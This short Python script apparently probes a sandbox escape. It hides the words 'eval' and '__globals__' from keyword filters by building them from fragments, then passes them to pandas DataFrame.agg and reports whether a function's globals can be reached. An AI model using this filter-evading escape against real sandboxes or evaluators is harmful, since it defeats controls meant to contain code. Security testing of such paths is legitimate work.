import pandas as pd
df = pd.DataFrame({"a": [1, 2]})
def f(x): return x
name = "".join(["ev", "al"])
mark = "_" * 2
try:
    print("REACHED", df.agg(name, 0, f"@f.{mark}globals{mark}"))
except Exception as error:
    print(type(error).__name__, str(error)[:100])
